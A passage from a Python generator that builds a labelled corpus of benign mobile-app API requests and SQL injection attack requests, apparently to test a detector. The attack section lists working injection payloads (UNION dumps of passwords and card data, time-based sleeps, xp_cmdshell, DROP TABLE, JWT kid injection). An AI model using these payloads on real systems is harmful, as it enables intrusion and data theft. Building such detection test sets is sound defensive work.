    ext = {"persistedQuery": {"version": 1, "sha256Hash": h}}
    extra = [("apollographql-client-name", "%s-%s" % (app["name"].lower(), r.choice(["ios", "android"]))), ("apollographql-client-version", "%s-%s" % (app["ver"], app["build"])),
             ("X-APOLLO-OPERATION-NAME", name)]
    k = r.randint(0, 2)
    if k == 0:
        return dict(method="GET", host=app["host"], path="/graphql", params={"operationName": name, "variables": js(varf(r)), "extensions": js(ext)}, extra=extra)
    if k == 1:
        return dict(method="POST", host=app["host"], path="/graphql", body={"operationName": name, "variables": varf(r), "extensions": ext}, extra=extra)
    return dict(method="POST", host=app["host"], path="/graphql", body={"operationName": name, "query": q, "variables": varf(r), "extensions": ext}, extra=extra)


@benign_gen(10)
def b_grpc_web(r):
    app = pick_app(r, "ride", "bank", "chat")
    k = r.randint(0, 2)
    if k == 0:
        msg = pb([(1, "usr_" + hexid(r, 12)), (2, [(1, r.uniform(52.4, 52.6)), (2, r.uniform(13.2, 13.6))]), (3, r.randint(1, 50)), (4, "de-DE")])
        path = "/ridely.dispatch.v1.DispatchService/NearbyDrivers"
    elif k == 1:
        msg = pb([(1, "acc_" + hexid(r, 10)), (2, ts_ms(r) // 1000), (3, ts_ms(r) // 1000), (5, [(1, "EUR"), (2, r.randint(1, 10 ** 6))]), (6, 50)])
        path = "/coinpurse.ledger.v2.Ledger/ListTransactions"
    else:
        msg = pb([(1, "cnv_" + hexid(r, 12)), (2, r.choice(CHAT_TEXT)), (3, uid(r)), (4, ts_ms(r))])
        path = "/chatterly.chat.v3.ChatService/SendMessage"
    return dict(method="POST", host="grpc." + app["host"].split(".", 1)[1], path=path, body=grpc_frame(msg), ctype="application/grpc-web+proto",
                extra=[("X-Grpc-Web", "1"), ("X-User-Agent", "grpc-web-dart/0.4"), ("Grpc-Timeout", "10S")], client=r.choice(["flutter", "rn-android", "ios"]))


@benign_gen(6)
def b_msgpack_cbor(r):
    app = pick_app(r, "fit", "ride", "chat")
    o = {"v": 2, "device": hexid(r, 16), "ts": ts_ms(r), "samples": [{"hr": r.randint(55, 170), "t": i} for i in range(r.randint(3, 14))],
         "battery": r.randint(5, 100), "label": r.choice(["Morning run", "Schlaf", "Café → office"])}
    if r.random() < 0.5:
        return dict(method="POST", host=app["host"], path="/v1/telemetry", body=msgpack(o), ctype="application/x-msgpack", client=r.choice(["flutter", "android"]))
    return dict(method="POST", host=app["host"], path="/v1/telemetry", body=cbor(o), ctype="application/cbor", client=r.choice(["ios", "ios-cf"]))


@benign_gen(6)
def b_gzip(r):
    app = pick_app(r)
    evs = [{"name": r.choice(EVENTS), "ts": ts_ms(r), "props": event_props(r)} for _ in range(r.randint(10, 60))]
    return dict(method="POST", host="events." + app["host"].split(".", 1)[1], path="/v1/ingest", body=gz(js({"events": evs, "appVersion": app["ver"]})),
                ctype="application/json", extra=[("Content-Encoding", "gzip")], client=r.choice(["android", "ios", "rn-android"]))


# ---------------------------------------------------------------------------
# benign: reviews, profiles, feedback, lists, misc
# ---------------------------------------------------------------------------

REPLIES = ["Hi Anna, thanks for the 5 stars! 🙌 We're glad the new map works for you.",
           "Sorry about the crash on login -- version 6.14.3 (out today) fixes it. Could you update & try again?",
           "Hallo! Danke für dein Feedback. Die Funktion \"Fahrt teilen\" kommt im nächsten Update.",
           "We hear you: dark mode is on our roadmap for Q3 <3",
           "Thanks! If the payment still fails, please write to support@ridely.app with your order # (Settings > Help).",
           "Bonjour, désolés pour ce désagrément. Pouvez-vous nous contacter via l'app (Profil → Aide) ?",
           "ご不便をおかけして申し訳ございません。最新バージョンで修正されました。",
           "Hey! Select \"Restore purchases\" under Settings → Subscription and your Pro plan will be back.",
           "Glad you like it! P.S. try long-pressing the <Home> button for shortcuts.",
           "Olá! Obrigado pela avaliação. Já corrigimos o problema do GPS no Android 14."]


@benign_gen(12)
def b_review_reply(r):
    app = pick_app(r)
    if r.random() < 0.5:
        return dict(method="PATCH", host=app["host"].replace("api.", "admin-api.", 1), path="/v1/app-store/reviews/%d/response" % r.randint(10 ** 9, 10 ** 10),
                    body={"data": {"type": "customerReviewResponses", "attributes": {"responseBody": r.choice(REPLIES)}}}, client="browser")
    return dict(method="POST", host=app["host"].replace("api.", "admin-api.", 1), path="/v1/play/reviews/gp:AOqpTO%s:reply" % alnum(r, 40),
                body={"replyText": r.choice(REPLIES), "reviewer": r.choice(FIRST), "rating": r.randint(1, 5), "lang": r.choice(["en", "de", "fr", "ja", "pt"])},
                client="browser")


BIOS = ["Coffee, code & climbing ☕🧗 | she/her", "Designer @ Berlin. Ex-Spotify. Opinions are my own.", "私は写真と旅行が好きです📷✈️",
        "Läufer, Vater, Kaffeetrinker. 42,195 km sind nicht genug.", "Amante de la música y los tacos 🌮 — CDMX", "Je cuisine, donc je suis. 🇫🇷",
        "Full-stack dev (Kotlin/Swift). I <3 clean architecture.", "C# & .NET dev | 'Select' is my favourite keyword 😅",
        "मुझे क्रिकेट और चाय पसंद है 🏏☕", "Фотограф. Москва → Лиссабон.", "커피 한 잔의 여유 ☕", "Rock'n'roll never dies 🤘",
        "Nurse 👩‍⚕️ night shifts, day naps", "مهندسة برمجيات من القاهرة 🇪🇬", "Living life 1 <kb> at a time", "Ask me about #100DaysOfCode",
        "🏳️‍🌈 proud | 🐶 dad | 🍕 critic", "Κάθε μέρα και μια περιπέτεια", "Şu an İstanbul'dayım 🌉", "Trainer & physio — DM for plans (5x/week)",
        "\"Stay hungry, stay foolish.\"", "Mom of 3 & part-time baker 🍰", "Dj/producer -- new EP out 06/07!", "Viết code và uống cà phê sữa đá ☕",
        "אוהב טבע, צילום וקפה"]


@benign_gen(22)
def b_profile(r):
    app = pick_app(r)
    f, l, email = person(r)
    k = r.randint(0, 3)
    if k <= 1:
        body = {"displayName": "%s %s" % (f, l), "bio": r.choice(BIOS), "pronouns": r.choice(["", "she/her", "he/him", "they/them"]),
                "website": r.choice(["", "https://%s.dev" % l.lower().replace(" ", "").replace("'", ""), "https://instagram.com/%s_%d" % (f.lower()[:4], r.randint(1, 99))]),
                "birthday": "19%02d-%02d-%02d" % (r.randint(60, 99), r.randint(1, 12), r.randint(1, 28)), "locale": r.choice(LANGS)}
        return dict(method="PATCH", host=app["host"], path="/v1/me/profile", body=body)
    if k == 2:
        return dict(method="PUT", host=app["host"], path="/v1/me/avatar", body={"avatarUrl": "https://cdn.%s/avatars/%s.jpg" % (app["host"].split(".", 1)[1], uid(r)),
                                                                                 "source": r.choice(["camera", "library", "gravatar"])})
    return dict(method="GET", host=app["host"], path="/v1/users/%s" % ("usr_" + hexid(r, 12)), params={"fields": "id,displayName,bio,avatarUrl,followersCount"})


LOGCAT = ["05-12 18:30:11.482  8123  8190 D OkHttp  : --> POST https://api.ridely.app/v2/rides (412-byte body)",
          "05-12 18:30:11.901  8123  8190 D OkHttp  : <-- 502 Bad Gateway https://api.ridely.app/v2/rides (419ms)",
          "05-12 18:30:12.003  8123  8123 W System.err: java.io.IOException: Canceled",
          "05-12 18:30:12.004  8123  8123 E RideRepo: createRide failed; retry=2 backoff=4000ms",
          "05-12 18:30:14.210  1520  1544 I ActivityManager: Displayed com.ridely.passenger/.ui.MainActivity: +512ms",
          "05-12 18:30:15.777  8123  8231 W FirebaseMessaging: Token retrieval failed: SERVICE_NOT_AVAILABLE"]
OSLOG = ["2024-05-12 18:30:11.482 Chatterly[812:31044] [Network] Task <8A1F-...>.<3> finished with error [-1001] Error Domain=NSURLErrorDomain Code=-1001 \"The request timed out.\"",
         "2024-05-12 18:30:11.901 Chatterly[812:31001] [UI] Unbalanced calls to begin/end appearance transitions for <Chatterly.ChatThreadViewController: 0x10a83e600>.",
         "2024-05-12 18:30:12.310 Chatterly[812:31044] [Sync] fetched 0 messages since=1715530000 cursor=nil",
         "2024-05-12 18:30:13.002 Chatterly[812:31001] [Push] APNs registration succeeded; token=<redacted>"]
FEEDBACK = ["App freezes when I tap \"Pay\" -- happened 3 times today!", "The map doesn't load on my Pixel 8 since the last update :(",
            "Messages arrive twice, see log below.", "Login with Apple fails with an error & then nothing happens.",
            "Bitte Dark Mode einbauen! Und die Schrift ist zu klein auf dem iPad.", "Pedido #88213 nunca chegou mas foi cobrado."]


@benign_gen(15)
def b_feedback(r):
    app = pick_app(r)
    android = r.random() < 0.5
    logs = "\n".join(r.sample(LOGCAT, 4) if android else r.sample(OSLOG, 3))
    body = {"message": r.choice(FEEDBACK), "email": person(r)[2], "category": r.choice(["bug", "payment", "suggestion"]), "rating": r.randint(1, 5),
            "diagnostics": {"appVersion": app["ver"], "os": ("Android 14" if android else "iOS 17.4.1"), "network": r.choice(["wifi", "5g", "lte"]),
                            "freeDiskMb": r.randint(200, 90000), "logs": logs}, "screenshotUploadId": "upl_" + hexid(r, 20) if r.random() < 0.4 else None}
    if r.random() < 0.3:
        b, ct = multipart([("payload", None, None, js(body)), ("logs", "app-log.txt", "text/plain", logs + "\n")], boundary_for(r, "android" if android else "ios"))
        return dict(method="POST", host=app["host"], path="/v1/support/feedback", body=b, ctype=ct, client="android" if android else "ios")
    return dict(method="POST", host=app["host"], path="/v1/support/feedback", body=body, client=r.choice(["android", "dalvik"]) if android else r.choice(["ios", "ios-cf"]))


@benign_gen(25)
def b_list_search(r):
    app = pick_app(r)
    k = r.randint(0, 5)
    if k == 0:
        return dict(method="GET", host=app["host"], path="/v1/products", params={"filter[category]": r.choice(["shoes", "home-garden", "kids & baby"]), "filter[price_min]": 10,
                                                                                 "filter[price_max]": 250, "sort": r.choice(["-rating", "price", "-created_at", "relevance"]),
                                                                                 "page[size]": 24, "page[number]": r.randint(1, 9)})
    if k == 1:
        return dict(method="GET", host=app["host"], path="/v2/search", params={"q": r.choice(["iphone 15 case", "Lego 42115", "vegan & gluten-free", "O'Neill jacket", "50% off",
                                                                                              "select comfort mattress", "union square", "\"exact phrase\""]),
                                                                               "limit": 20, "cursor": b64u(js({"id": r.randint(1, 10 ** 6), "s": round(r.random(), 4)}))})
    if k == 2:
        return dict(method="GET", host=app["host"], path="/v1/notifications", params={"since": ts_iso(r), "types": "order,chat,promo", "unread": "true"})
    if k == 3:
        return dict(method="GET", host=app["host"], path="/v1/orders/%d" % r.randint(10 ** 5, 10 ** 7), params={"expand": "items.product,shipments"})
    if k == 4:
        return dict(method="GET", host=app["host"], path="/v1/transactions", params={"from": "2024-01-01T00:00:00+01:00", "to": "2024-03-31T23:59:59+02:00",
                                                                                     "order_by": "created_at", "direction": r.choice(["asc", "desc"]), "limit": 50, "offset": r.randint(0, 10) * 50})
    return dict(method="GET", host=app["host"], path="/v1/feed", params={"after": alnum(r, 16), "fields[post]": "id,title,author", "include": "author,media"})


@benign_gen(15)
def b_static(r):
    app = pick_app(r)
    cdn = "cdn." + app["host"].split(".", 1)[1]
    k = r.randint(0, 3)
    if k == 0:
        return dict(method="GET", host=cdn, path="/i18n/%s/strings.json" % r.choice(["en", "de", "pt-BR", "ja", "ar"]), auth=False, extra=[("If-Modified-Since", "Mon, 13 May 2024 08:00:00 GMT")])
    if k == 1:
        return dict(method="GET", host=cdn, path="/img/%s/%s.webp" % (hexid(r, 2), uid(r)), params={"w": r.choice([120, 360, 720, 1080]), "q": 80, "dpr": 3}, auth=False)
    if k == 2:
        return dict(method="GET", host=app["host"], path="/v1/app/min-version", params={"platform": r.choice(["ios", "android"]), "current": app["ver"]}, auth=False)
    return dict(method="HEAD", host=cdn, path="/map-styles/%s.json" % r.choice(["day", "night", "satellite"]), auth=False)


@benign_gen(10)
def b_link_preview(r):
    app = APPS["chat"]
    url = r.choice(["https://www.youtube.com/watch?v=%s" % alnum(r, 11), "https://open.spotify.com/track/%s?si=%s" % (alnum(r, 22), hexid(r, 16)),
                    "https://www.nytimes.com/2024/05/12/technology/ai-phones.html", "https://maps.app.goo.gl/%s" % alnum(r, 17),
                    "https://github.com/square/okhttp/issues/%d" % r.randint(1000, 8000), "https://de.wikipedia.org/wiki/K%C3%B6ln",
                    "https://www.instagram.com/p/%s/?igsh=%s" % (alnum(r, 11), alnum(r, 16))])
    if r.random() < 0.7:
        return dict(method="POST", host=app["host"], path="/v3/link-preview", body={"url": url, "conversationId": "cnv_" + hexid(r, 12)})
    return dict(method="POST", host=app["host"], path="/v1/integrations/webhooks", body={"url": "https://hooks.slack.com/services/T%s/B%s/%s" % (alnum(r, 8).upper(), alnum(r, 8).upper(), alnum(r, 24)),
                                                                                          "events": ["message.created"], "secret": alnum(r, 32)}, client="browser")


NOTIF_TEMPLATES = ["Hi {{first_name}}, your order #{{order_id}} is on the way! 🚚", "{{driver_name}} arrives in {{eta}} min — {{car.model}} ({{car.plate}})",
                   "Your {{plan}} trial ends on {{ends_at | date: \"%b %d\"}}.", "Hola {{nombre}}, ¡tu pedido está listo!",
                   "%{name} sent you a message", "${user} liked your photo", "You have {count, plural, one {# new message} other {# new messages}}"]


@benign_gen(8)
def b_notif_template(r):
    app = pick_app(r)
    body = {"key": r.choice(["order_shipped", "driver_arriving", "trial_ending", "new_message"]), "locale": r.choice(["en", "es", "de"]),
            "title": r.choice(["Good news!", "Heads up", "¡Listo!"]), "body": r.choice(NOTIF_TEMPLATES), "deeplink": "%s://orders/{{order_id}}" % app["name"].lower(),
            "channels": ["push", "in_app"]}
    return dict(method="PUT", host=app["host"].replace("api.", "admin-api.", 1), path="/v1/notification-templates/%s" % body["key"], body=body, client="browser")


@benign_gen(15)
def b_account(r):
    app = pick_app(r)
    k = r.randint(0, 4)
    if k == 0:
        return dict(method="POST", host=app["host"], path="/v1/me/password", body={"currentPassword": r.choice(PASSWORDS), "newPassword": r.choice(PASSWORDS)})
    if k == 1:
        return dict(method="PATCH", host=app["host"], path="/v1/me/settings", body={"notifications": {"marketing": False, "orderUpdates": True}, "units": r.choice(["metric", "imperial"]),
                                                                                     "theme": "system", "language": r.choice(LANGS)})
    if k == 2:
        return dict(method="POST", host=app["host"], path="/v1/auth/logout", body={"allDevices": r.random() < 0.2})
    if k == 3:
        return dict(method="DELETE", host=app["host"], path="/v1/me", params={"reason": r.choice(["too_expensive", "privacy", "other"]), "feedback": r.choice(["", "not using it anymore", "moving abroad :("])})
    return dict(method="POST", host=app["host"], path="/v1/me/2fa/totp/verify", body={"code": "%06d" % r.randint(0, 999999)})


# ---------------------------------------------------------------------------
# dev-content: mobile developers posting code to a support / Q&A endpoint
# ---------------------------------------------------------------------------

KOTLIN = [
    "@Dao\ninterface OrderDao {\n    @Query(\"SELECT * FROM orders WHERE user_id = :userId AND status IN (:statuses) ORDER BY created_at DESC\")\n    fun observe(userId: String, statuses: List<String>): Flow<List<OrderEntity>>\n\n    @Query(\"DELETE FROM orders WHERE created_at < :cutoff\")\n    suspend fun purge(cutoff: Long)\n}",
    "val client = OkHttpClient.Builder()\n    .addInterceptor { chain ->\n        val req = chain.request().newBuilder()\n            .header(\"Authorization\", \"Bearer ${tokenStore.access}\")\n            .header(\"X-App-Version\", BuildConfig.VERSION_NAME)\n            .build()\n        chain.proceed(req)\n    }\n    .authenticator(TokenAuthenticator(api))\n    .build()",
    "interface Api {\n    @GET(\"v1/orders\")\n    suspend fun orders(@Query(\"sort\") sort: String = \"-created_at\", @Query(\"page\") page: Int): Response<Page<Order>>\n\n    @Multipart\n    @POST(\"v2/media/upload\")\n    suspend fun upload(@Part file: MultipartBody.Part, @Part(\"metadata\") meta: RequestBody): Media\n}",
    "val MIGRATION_3_4 = object : Migration(3, 4) {\n    override fun migrate(db: SupportSQLiteDatabase) {\n        db.execSQL(\"ALTER TABLE messages ADD COLUMN edited_at INTEGER\")\n        db.execSQL(\"CREATE INDEX IF NOT EXISTS idx_messages_conv ON messages(conversation_id, sent_at)\")\n    }\n}",
    "try {\n    val p = Runtime.getRuntime().exec(arrayOf(\"logcat\", \"-d\", \"-t\", \"500\"))\n    val log = p.inputStream.bufferedReader().readText()\n    feedback.attachLog(log)\n} catch (e: IOException) {\n    Log.e(TAG, \"could not read logcat\", e)\n}",
    "@Composable\nfun ChatBubble(msg: Message) {\n    Text(\n        text = AnnotatedString.fromHtml(\"<b>${msg.author}</b>: ${msg.text}\"),\n        modifier = Modifier.padding(8.dp)\n    )\n}",
]
SWIFT = [
    "var req = URLRequest(url: URL(string: \"https://api.example.com/v1/me\")!)\nreq.setValue(\"Bearer \\(token)\", forHTTPHeaderField: \"Authorization\")\nlet (data, resp) = try await URLSession.shared.data(for: req)\nguard (resp as? HTTPURLResponse)?.statusCode == 200 else { throw APIError.bad }\nlet me = try JSONDecoder().decode(User.self, from: data)",
    "AF.upload(multipartFormData: { form in\n    form.append(jpegData, withName: \"file\", fileName: \"photo.jpg\", mimeType: \"image/jpeg\")\n    form.append(Data(meta.utf8), withName: \"metadata\")\n}, to: \"https://upload.example.co/v2/media/upload\", headers: headers)\n.validate()\n.responseDecodable(of: Media.self) { print($0) }",
    "let db = try Connection(path)\ntry db.run(\"CREATE TABLE IF NOT EXISTS samples (id TEXT PRIMARY KEY, type TEXT, value REAL, start INTEGER)\")\nlet stmt = try db.prepare(\"SELECT type, sum(value) FROM samples WHERE start > ? GROUP BY type\")\nfor row in try stmt.run(since) { print(row) }",
    "let webView = WKWebView()\nwebView.loadHTMLString(\"<html><body><script>window.webkit.messageHandlers.bridge.postMessage({ready: true})</script></body></html>\", baseURL: nil)",
    "func application(_ app: UIApplication, open url: URL, options: [UIApplication.OpenURLOptionsKey : Any] = [:]) -> Bool {\n    guard let comps = URLComponents(url: url, resolvingAgainstBaseURL: false), comps.host == \"order\" else { return false }\n    router.open(.order(id: comps.path.dropFirst()))\n    return true\n}",
]
SHELL = [
    "adb shell am start -W -a android.intent.action.VIEW -d \"ridely://order/123?src=push\" com.ridely.passenger",
    "adb logcat -v time | grep -E \"OkHttp|FirebaseMessaging\" > /tmp/log.txt; adb pull /sdcard/Download/trace.json .",
    "xcrun simctl openurl booted \"https://links.example.com/r/abc\" && xcrun simctl push booted com.example.app payload.apns",
    "./gradlew :app:assembleRelease -Pandroid.injected.signing.store.file=$HOME/keys/release.jks && bundletool build-apks --bundle=app.aab --output=app.apks",
    "curl -X POST https://api.example.com/v1/devices -H 'Authorization: Bearer $TOKEN' -H 'Content-Type: application/json' -d '{\"token\":\"abc\",\"platform\":\"android\"}'",
    "cd ios && pod deintegrate && rm -rf Pods Podfile.lock ~/Library/Developer/Xcode/DerivedData/* && pod install --repo-update",
    "openssl x509 -in cert.pem -noout -fingerprint -sha256 | sed 's/://g' | tr 'A-F' 'a-f'",
]
SQLS = [
    "SELECT d.platform, count(*) AS n, max(d.last_seen) FROM devices d LEFT JOIN users u ON u.id = d.user_id WHERE u.deleted_at IS NULL GROUP BY d.platform;",
    "UPDATE push_tokens SET revoked = 1 WHERE token IN (SELECT token FROM push_tokens GROUP BY token HAVING count(*) > 1);",
    "SELECT * FROM events WHERE name = 'purchase' UNION ALL SELECT * FROM events_archive WHERE name = 'purchase' ORDER BY ts DESC LIMIT 100;",
    "-- why is this slow on SQLite?\nSELECT m.* FROM messages m WHERE m.conversation_id = ? AND m.sent_at > ? ORDER BY m.sent_at;",
    "DROP TABLE IF EXISTS tmp_receipts; CREATE TABLE tmp_receipts AS SELECT * FROM receipts WHERE validated = 0;",
]
OTHER_DEV = [
    ("xml", "<manifest xmlns:android=\"http://schemas.android.com/apk/res/android\">\n  <application android:usesCleartextTraffic=\"false\">\n    <activity android:name=\".MainActivity\" android:exported=\"true\">\n      <intent-filter android:autoVerify=\"true\">\n        <action android:name=\"android.intent.action.VIEW\" />\n        <category android:name=\"android.intent.category.BROWSABLE\" />\n        <data android:scheme=\"https\" android:host=\"links.example.com\" android:pathPrefix=\"/r/\" />\n      </intent-filter>\n    </activity>\n  </application>\n</manifest>"),
    ("plist", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">\n<plist version=\"1.0\">\n<dict>\n  <key>NSAppTransportSecurity</key>\n  <dict><key>NSAllowsArbitraryLoads</key><false/></dict>\n  <key>NSCameraUsageDescription</key>\n  <string>We need the camera to scan receipts</string>\n</dict>\n</plist>"),
    ("proguard", "-keep class com.example.model.** { *; }\n-keepattributes Signature, *Annotation*\n-dontwarn okhttp3.internal.platform.**\n-keepclassmembers class * implements java.io.Serializable {\n    private static final java.io.ObjectStreamField[] serialPersistentFields;\n    private void writeObject(java.io.ObjectOutputStream);\n    private void readObject(java.io.ObjectInputStream);\n}"),
    ("gradle", "dependencies {\n    implementation(\"com.squareup.retrofit2:retrofit:2.11.0\")\n    implementation(platform(\"com.google.firebase:firebase-bom:33.0.0\"))\n    implementation(\"org.apache.logging.log4j:log4j-api:2.23.1\") // only for the desktop module\n}"),
    ("js", "import { useEffect } from 'react';\nimport messaging from '@react-native-firebase/messaging';\nuseEffect(() => messaging().onMessage(async m => {\n  Alert.alert('New message', JSON.stringify(m.data));\n}), []);\nconst html = `<div onclick=\"go('${id}')\">${title}</div>`;"),
    ("dart", "final res = await http.post(Uri.parse('$base/v1/auth/login'),\n    headers: {'Content-Type': 'application/json'},\n    body: jsonEncode({'email': email, 'password': pw}));\nif (res.statusCode != 200) throw Exception('login failed: ${res.body}');"),
]


def _dev_post(r, lang, code, i):
    app = pick_app(r)
    title = r.choice(["Crash when %s" % r.choice(["uploading", "rotating", "logging in"]), "How do I fix this %s code?" % lang, "Question about the %s SDK" % app["name"],
                      "Deep link not opening the app", "Push token null on first launch", "Slow query on device"])
    k = i % 4
    if k == 0:
        body = {"title": title, "body": "Here is my code:\n\n```%s\n%s\n```\nAny idea what's wrong?" % (lang, code), "tags": [lang, "android" if lang in ("kotlin", "xml", "gradle", "proguard") else "ios"]}
        return dict(method="POST", host="community." + app["host"].split(".", 1)[1], path="/api/v1/questions", body=body, client="browser")
    if k == 1:
        body = {"subject": title, "description": code, "sdkVersion": "3.%d.0" % r.randint(0, 9), "platform": r.choice(["android", "ios", "flutter", "react-native"]),
                "attachLogs": True}
        return dict(method="POST", host="developers." + app["host"].split(".", 1)[1], path="/api/support/tickets", body=body, client="browser")
    if k == 2:
        return dict(method="POST", host="community." + app["host"].split(".", 1)[1], path="/api/v1/questions/%d/answers" % r.randint(1000, 99999),
                    body={"body": "Try this instead:\n\n    " + code.replace("\n", "\n    ")}, client="browser")
    b = "title=%s&body=%s&lang=%s" % (enc(title), enc(code), lang)
    return dict(method="POST", host="developers." + app["host"].split(".", 1)[1], path="/forum/post", body=b, ctype="application/x-www-form-urlencoded", client="browser")


@dev_gen
def d_kotlin(r):
    return [_dev_post(r, "kotlin", KOTLIN[i % len(KOTLIN)], i) for i in range(10)]


@dev_gen
def d_swift(r):
    return [_dev_post(r, "swift", SWIFT[i % len(SWIFT)], i) for i in range(10)]


@dev_gen
def d_shell(r):
    return [_dev_post(r, "shell", SHELL[i % len(SHELL)], i) for i in range(10)]


@dev_gen
def d_sql(r):
    return [_dev_post(r, "sql", SQLS[i % len(SQLS)], i) for i in range(10)]


@dev_gen
def d_other(r):
    return [_dev_post(r, OTHER_DEV[i % len(OTHER_DEV)][0], OTHER_DEV[i % len(OTHER_DEV)][1], i) for i in range(10)]


def benign():
    out = []
    for name, n, fn in BENIGN:
        r = random.Random("benign-" + name)
        for i in range(1, n + 1):
            a = fn(r)
            out.append(mk("%s/benign/%s-%03d" % (SET, name, i), "benign", "pass", a, r))
    r = random.Random("dev-content")
    i = 0
    for name, fn in DEV:
        rr = random.Random("dev-" + name)
        for a in fn(rr):
            i += 1
            out.append(mk("%s/dev-content/%s-%03d" % (SET, name, i), "dev-content", "pass", a, r))
    return out


def attacks():
    out = []
    for name, fn in ATTACKS:
        r = random.Random("attack-" + name)
        counters = {}
        for a in fn(r):
            cat = a.pop("cat")
            counters[cat] = counters.get(cat, 0) + 1
            out.append(mk("%s/%s/%s-%03d" % (SET, cat, name, counters[cat]), cat, "detect", a, r))
    return out


# ---------------------------------------------------------------------------
# attacks: SQL injection
# ---------------------------------------------------------------------------

def A(cat, **kw):
    kw["cat"] = cat
    return kw


SQLI_SORT = ["created_at,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/(SELECT 0) END)", "-rating;DROP TABLE orders--",
             "(CASE WHEN (SELECT substr(password,1,1) FROM users WHERE id=1)='a' THEN price ELSE rating END)",
             "price desc,(select 1 from pg_sleep(5))", "IF((SELECT count(*) FROM admins)>0,created_at,id)",
             "created_at PROCEDURE ANALYSE(EXTRACTVALUE(5151,CONCAT(0x5c,version())),1)"]
SQLI_ID = ["1 OR 1=1", "48213' AND SLEEP(5)-- -", "1' UNION SELECT NULL,email,password_hash,NULL FROM users--",
           "7 AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))", "1;EXEC master..xp_cmdshell 'ping -n 5 10.0.0.9'--",
           "1 UNION ALL SELECT sql,name,3 FROM sqlite_master--", "9' AND 4821=(SELECT 4821 FROM PG_SLEEP(5))--",
           "1' AND 1=UTL_INADDR.get_host_name((SELECT user FROM dual))--"]
SQLI_TEXT = ["shoes' UNION SELECT username,password,3,4 FROM users-- -", "x' AND extractvalue(1,concat(0x7e,(SELECT version())))-- ",
             "completed') OR ('1'='1", "2024-01-01' AND 1=CAST((SELECT current_user) AS int)--", "pizza%' AND 1=1 UNION SELECT table_name,2,3 FROM information_schema.tables#",
             "' OR '1'='1' /*", "admin'--", "1' and (select 1 from (select count(*),concat(database(),floor(rand(0)*2))x from information_schema.tables group by x)a)-- "]


@attack_gen
def a_sqli_params(r):
    out = []
    shop, ride, food, chat = APPS["shop"], APPS["ride"], APPS["food"], APPS["chat"]
    for p in SQLI_SORT:
        h, path, key = r.choice([(shop["host"], "/v1/products", "sort"), (ride["host"], "/v2/rides", "sort"), (food["host"], "/v1/restaurants", "sort"),
                                 (APPS["bank"]["host"], "/v1/transactions", "order_by")])
        out.append(A("sqli", method="GET", host=h, path=path, params=[(key, p), ("limit", 20)]))
    for i, p in enumerate(SQLI_ID):
        if i % 2 == 0:
            out.append(A("sqli", method="GET", host=shop["host"], path="/v1/orders/" + enc(p), params={"expand": "items.product"}))
        else:
            out.append(A("sqli", method="GET", host=chat["host"], path="/v3/conversations/cnv_4f1a/messages", params={"before": p, "limit": 50}))
    keys = [(shop["host"], "/v1/products", "filter[category]"), (food["host"], "/v1/restaurants", "q"), (ride["host"], "/v2/rides", "status"),
            (ride["host"], "/v2/rides", "from"), (food["host"], "/v1/restaurants", "cuisine"), (shop["host"], "/v2/search", "q"),
            (APPS["bank"]["host"], "/v1/transactions", "direction"), (shop["host"], "/v1/notifications", "types")]
    for (h, path, key), p in zip(keys, SQLI_TEXT):
        out.append(A("sqli", method="GET", host=h, path=path, params=[(key, p), ("page", 1)]))
    return out


@attack_gen
def a_sqli_bodies(r):
    out = []
    shop, food = APPS["shop"], APPS["food"]
    # GraphQL variables
    out.append(A("sqli", method="POST", host=shop["host"], path="/graphql", body={"operationName": "ProductDetail", "variables": {"id": "1' OR '1'='1' UNION SELECT id,password FROM users--"},
                                                                               "extensions": {"persistedQuery": {"version": 1, "sha256Hash": hashlib.sha256(b"pd").hexdigest()}}}))
    out.append(A("sqli", method="POST", host=food["host"], path="/graphql", body={"operationName": "SearchRestaurants", "query": APOLLO_OPS[2][1],
                                                                               "variables": {"q": "thai", "filter": {"openNow": True, "cuisine": "thai' UNION ALL SELECT NULL,table_name,NULL FROM information_schema.tables--"}, "sort": "RATING_DESC"}}))
    out.append(A("sqli", method="POST", host=shop["host"], path="/graphql", body={"operationName": "OrderHistory", "query": APOLLO_OPS[5][1],
                                                                               "variables": {"orderBy": {"field": "CREATED_AT; SELECT pg_sleep(10)--", "direction": "DESC"}}}))
    out.append(A("sqli", method="GET", host=shop["host"], path="/graphql", params={"operationName": "ProductDetail",
                                                                                "variables": js({"id": "5 AND (SELECT 6326 FROM (SELECT(SLEEP(5)))qZxS)"}),
                                                                                "extensions": js({"persistedQuery": {"version": 1, "sha256Hash": hexid(r, 64)}})}))
    out.append(A("sqli", method="POST", host=shop["host"], path="/graphql", body={"query": "{ product(id: \"1' UNION SELECT username||':'||password FROM users--\") { id name } }"}))
    # login / receipts / headers
    out.append(A("sqli", method="POST", host=APPS["ride"]["host"], path="/v1/auth/login", body={"email": "admin@ridely.app' OR 1=1-- ", "password": "x"}, auth=False))
    out.append(A("sqli", method="POST", host=APPS["fit"]["host"], path="/v1/purchases/google/verify", body={"packageName": APPS["fit"]["bundle"], "productId": "pro_monthly' OR '1'='1",
                                                                                                          "purchaseToken": alnum(r, 80)}))
    out.append(A("sqli", method="GET", host=APPS["ride"]["host"], path="/v1/config", params={"platform": "android"},
                 extra=[("X-Device-Id", "3f9a1c2b7e6d5a41' OR '1'='1"), ("X-App-Version", "6.14.2")], client="android"))
    out.append(A("sqli", method="POST", host=APPS["ride"]["host"], path="/v1/location/batch",
                 body={"points": [{"lat": "52.52) AND (SELECT 7301 FROM (SELECT(SLEEP(5)))abc) AND (1=1", "lng": 13.40, "ts": ts_ms(r)}]}))
    out.append(A("sqli", method="POST", host=food["host"], path="/v1/orders/search", body={"where": "status = 'delivered' OR 1=1 UNION SELECT card_number, cvv FROM payments", "limit": 10}))
    out.append(A("sqli", method="GET", host=APPS["chat"]["host"], path="/v1/notifications", params={"since": "1715530000 AND 1=(SELECT COUNT(*) FROM users WHERE is_admin=1)"}))
    # JWT kid SQL injection (header inside the Bearer token)
    for kid in ["x' UNION SELECT 'c2VjcmV0' -- ", "1' OR '1'='1"]:
        tok = jwt(r, APPS["shop"], alg="HS256", header={"alg": "HS256", "typ": "JWT", "kid": kid}, claims={"role": "admin"})
        out.append(A("sqli", method="GET", host=shop["host"], path="/v1/me", auth="Bearer " + tok))
    return out


# ---------------------------------------------------------------------------
# attacks: NoSQL and LDAP
